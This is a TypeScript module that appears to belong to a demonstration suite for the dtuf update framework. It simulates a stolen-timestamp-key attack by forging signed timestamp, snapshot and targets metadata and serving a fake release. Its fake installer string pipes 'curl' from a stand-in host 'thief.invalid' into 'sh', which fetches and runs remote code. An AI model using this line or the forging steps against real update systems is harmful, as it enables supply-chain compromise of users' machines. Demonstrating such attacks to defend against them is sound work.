import { digestOf, fileOf, forgeBundle, readBundle } from '../bundle.ts';
import * as tuf from '../dtuf.ts';
import type { Attack } from './attack.ts';
import source from './stolen-timestamp-key.ts?raw';

const EVIL = `#!/bin/sh
# Installs release 3 of the app.
curl -s https://thief.invalid/payload | sh
`;

/** A whole release is forged, and signed with the one key that was stolen. */
export const stolenTimestampKey: Attack = {
  id: 'stolen-timestamp-key',
  title: 'Stolen timestamp key',
  invitation: 'Sign a release of your own with the key that is online.',
  aim: 'The timestamp is signed every day, so its key lies on a machine that is online. That is the one most easily stolen.',
  remains:
    'With that key a thief can keep an old release fresh, so hold back updates for longer, or make readers expect a version that never comes. It ends when the publisher replaces the key (dtuf reset-keys), with the root key that is kept offline.',
  source,

  async run({ world, reader, network, newest, tell }) {
    await reader.pull(world.text);
    tell('reader', `has seen the newest release: its timestamp is version ${newest}`);

    // The thief reads what is public, and has one private key.
    const genuine = await readBundle(world.registry, world.repository, 'timestamp.json');
    const published = tuf.parseTargets(fileOf(genuine, 'targets').bytes).signed;
    const signer = await world.stolenTimestampKey();
    const thief = [{ keyid: await tuf.keyidOf(signer.key), signer }];
    const version = newest + 1;
    const validity = { version, expires: new Date(Date.now() + 86_400_000) };

    const evil = new TextEncoder().encode(EVIL);
    const files = new Map([...published.targets, [world.text, await tuf.fileInfo(evil)]]);
    const targets = await tuf.signMetadata(tuf.targetsToSign(validity, files), thief);
    const listed = new Map([['targets.json', { ...(await tuf.fileInfo(targets)), version }]]);
    const snapshot = await tuf.signMetadata(tuf.snapshotToSign(validity, listed), thief);
    const named = await tuf.timestampToSign(validity, version, snapshot);
    const timestamp = await tuf.signMetadata(named, thief);
    const root = fileOf(genuine, 'root');
    const forged = new Map([
      ['timestamp.json', timestamp],
      [`${version}.snapshot.json`, snapshot],
      [`${version}.targets.json`, targets],
      [root.name, root.bytes],
    ]);
    tell('attacker', `signed version ${version} of timestamp, snapshot and targets with the stolen key`);

    const digest = await digestOf(evil);
    network.takeOver(async ({ manifest, blob, did }) => {
      if (manifest === 'timestamp.json') {
        did(`answered with the forged release, which lists another ${world.text}`);
        return forgeBundle(forged);
      }
      if (blob !== digest) return undefined;
      did(`answered with the forged ${world.text}`);
      return new Response(evil);
    });
    return reader.pull(world.text);
  },
};
